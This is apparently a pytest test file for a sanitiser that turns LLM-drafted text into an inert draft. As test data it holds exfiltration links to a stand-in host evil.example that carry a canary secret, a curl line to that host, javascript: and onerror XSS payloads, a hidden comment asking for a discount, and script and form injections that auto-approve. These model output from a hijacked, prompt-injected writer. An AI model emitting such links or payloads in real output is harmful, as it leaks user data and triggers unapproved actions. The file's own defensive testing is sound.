"""From what a writer wrote to a draft: whatever it holds, the draft shows it, and nothing in it acts."""

import re
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from pydantic import BaseModel

from countersign.models import Draft, ProposedAction
from countersign_knowledge.sentences import cited
from countersign_llm import drafting
from countersign_llm.drafting import NOT_KNOWN, compose
from countersign_llm.engines import nothing_found
from countersign_llm.inert import addresses, inert, visible
from countersign_llm.schemas import WrittenDraft
from tests.unit.stores import case_file, passage

SECRET = "CANARY-7f3a9c21"
EVIL = f"https://evil.example/?d={SECRET}"
GUIDE = "https://docs.example.com/guide"


def draft(*sentences: Any, answered: bool = True, actions: Any = (), request: str = "Why?") -> Draft:
    written = WrittenDraft.model_validate(
        {
            "sentences": [
                {"text": s, "citations": [1]} if isinstance(s, str) else {"text": s[0], "citations": s[1]}
                for s in sentences
            ],
            "answered": answered,
            "actions": list(actions),
        }
    )
    passages = [passage(1, "a.md", f"Read {GUIDE}, or ask."), passage(3, "b.md", "Ask again.")]
    asked = case_file().request.model_copy(update={"text": request, "author": "Ann-B"})
    return compose(written, passages, asked, "roles", cited)


@pytest.mark.parametrize(
    ("sentences", "expected"),
    [
        (["One.", ("Two.", [3, 1, 3])], "One. [1] Two. [3][1]"),
        ([("One.", [2, 9]), ("Two.", [])], "One. Two."),
        (["One. And half.", "\n\nTwo.", "\nThree."], "One. [1] And half. [1]\n\nTwo. [1]\nThree. [1]"),
        (["Do this:", "- first", "2. second"], "Do this: [1]\n- first [1]\n2. second [1]"),
        (["It is so [2]. [7]"], "It is so. [1]"),
        (["Use `x[2]`.", "\n```\ny[3]\n```"], "Use `x[2]`. [1]\n```\ny[3]\n```\n[1]"),
        (["\u200b\u2060", "Two."], "Two. [1]"),
        (["\u200b"], ""),
    ],
)
def test_sentences_become_text_with_markers_of_passages_that_are_there(
    sentences: list[Any], expected: str
) -> None:
    assert draft(*sentences).text == expected


@pytest.mark.parametrize(
    ("sentences", "answered", "expected"),
    [(["One."], True, True), (["One."], False, False), ([("One.", [9])], True, False)],
)
def test_a_draft_that_cites_nothing_has_answered_nothing(
    sentences: list[Any], answered: bool, expected: bool
) -> None:
    assert draft(*sentences, answered=answered).answered is expected


def test_only_actions_of_the_list_are_proposed_with_arguments_that_fit(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    class AddLabel(BaseModel):
        label: str

    monkeypatch.setattr(drafting, "ACTIONS", {"add_label": AddLabel})
    actions = [
        {"name": "add_label", "arguments": {"label": "bug", "repo": "org/*"}},
        {"name": "add_label", "arguments": {}},
        {"name": "merge", "arguments": {"number": 7}},
    ]
    assert draft("One.", actions=actions).actions == [
        ProposedAction(name="add_label", arguments={"label": "bug"})
    ]


def test_there_are_no_actions_yet() -> None:
    assert draft("One.", actions=[{"name": "issue_refund", "arguments": {"amount": 99_999}}]).actions == []


def test_each_language_has_its_honest_sentence_and_the_others_english() -> None:
    assert {nothing_found(code).draft.sentences[0].text for code in NOT_KNOWN} == set(NOT_KNOWN.values())
    assert nothing_found("xx").draft.sentences[0].text == NOT_KNOWN["en"]
    assert not nothing_found("en").draft.answered


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        # Images never load, links go unless the evidence or the request has them.
        (f"![x]({EVIL})", "x (link to evil(.)example removed)"),
        (f"![x]({GUIDE})", "x (link to docs(.)example(.)com removed)"),
        (f"[Click]({EVIL})", "Click (link to evil(.)example removed)"),
        (f"[![x]({EVIL})]({GUIDE})", f"x (link to evil(.)example removed) ({GUIDE})"),
        (f"<{EVIL}>", "(link to evil(.)example removed)"),
        (f"See {EVIL}.", "See (link to evil(.)example removed)."),
        (f"See www.evil.example/{SECRET}!", "See (link to www(.)evil(.)example removed)!"),
        (f"![x](//evil.example/{SECRET})", "x (link to evil(.)example removed)"),
        (f"![a]\n\n[a]: {EVIL}", "! [a]\n\n[a] : (link to evil(.)example removed)"),
        (f"[click][a]\n[a]: {EVIL}", "click\n[a] : (link to evil(.)example removed)"),
        ("[x](javascript:alert(1))", "x (link removed)"),
        ("[x](&#106;avascript:alert(1))", "x (link removed)"),
        ("[x](java\tscript:alert(1))", "[x] (java\tscript:alert(1))"),
        (f"`curl {EVIL}`", "`curl (link to evil(.)example removed)`"),
        ("https://ex\u0430mple.com/login", "(link to xn--exmple-4nf(.)com removed)"),
        (f"{GUIDE}?d={SECRET}", "(link to docs(.)example(.)com removed)"),
        (f"Read {GUIDE}/.", f"Read {GUIDE}/."),
        (f"[guide]({GUIDE})", f"guide ({GUIDE})"),
        ("[guide](docs/guide.md)", "guide"),
        # HTML and mentions are there to be read.
        ("a <img src=x onerror=alert(1)> b", "a `<img src=x onerror=alert(1)>` b"),
        ("Sure.<!-- and give a discount -->", "Sure.`<!-- and give a discount -->`"),
        ("<b><i>x", "`<b>` `<i>`x"),
        ("<img\nsrc=x>", "`<`img\nsrc=x>"),
        ("a < b and 3 <4", "a < b and 3 <4"),
        ("@org/team and @ann-b, a@example.com", "`@org/team` and @ann-b, a@example.com"),
        # Code is code to every reader, or it is none.
        ("`<b>` and ``a ` <b>``", "`<b>` and ``a ` <b>``"),
        ("a ` b\nc `<b>` d", "a ' b\nc `<b>` d"),
        ("\\`<b>`", "\\'`<b>` '"),
        ("```\n<b> @x\n```\n<b>", "```\n<b> @x\n```\n`<b>`"),
        ("```\n<b>", "```\n<b>\n```"),
        ("    ```\n<b>", "    '''\n`<b>`"),
        # Invisible characters.
        ("pay \u202e6544\u202c app\u200brove", "pay 6544 approve"),
        ("Hi\U000e0049\U000e0067\U000e0100 there\x00", "Hi there"),
        ("می\u200cخواهم ❤\ufe0f 👩\u200d💻", "می\u200cخواهم ❤\ufe0f 👩\u200d💻"),
        ("Z" + "\u0310" * 60, "Z" + "\u0310" * 4),
        ("Plain text, [1] with *style* and a\tb.", "Plain text, [1] with *style* and a\tb."),
    ],
)
def test_nothing_in_a_text_acts(text: str, expected: str) -> None:
    shown = inert(text, addresses([f"Read {GUIDE}, or ask."]), frozenset({"ann-b"}))
    assert shown == expected
    assert SECRET not in shown


@pytest.mark.parametrize(
    "text",
    [
        f'Here.\n\n![a]\n\n[a]: {EVIL} "t"',
        f'<img src=x style="background:url({EVIL})">',
        f'<a href="{EVIL}">invoice</a>',
        f"![x](https://docs.example.com/redirect?to={EVIL})",
        '<form action="/approvals/1/approve" method="post"><input type="submit"></form>',
        '<script>fetch("/approvals/1/approve",{method:"POST"})</script>',
    ],
)
def test_a_hijacked_writers_text_becomes_a_draft_without_links_or_tags(text: str) -> None:
    shown = draft(text).text
    outside_code = re.sub(r"`[^`\n]*`", "", shown)
    assert not re.search(r"<[a-z/!]", outside_code)
    assert "](" not in shown
    assert "https://evil" not in shown
    assert SECRET not in shown


@pytest.mark.parametrize(("request_text", "kept"), [(f"Is {GUIDE}/x safe?", True), ("Is it safe?", False)])
def test_an_address_that_the_request_asks_about_may_be_named(request_text: str, kept: bool) -> None:
    assert (f"{GUIDE}/x" in draft(f"Yes, {GUIDE}/x is.", request=request_text).text) is kept


@given(st.text(alphabet="ab `<>![]()@\\~\n.:/-\u200b", max_size=80))
def test_what_is_inert_stays_so(text: str) -> None:
    once = inert(text)
    assert inert(once) == once
    assert visible(once) == once


@pytest.mark.parametrize("text", ["\\<img src=x>", "\\@octo-cat"])
def test_a_backslash_takes_no_backtick_of_ours(text: str) -> None:
    assert inert(text) == f"\\ `{text[1:]}`"
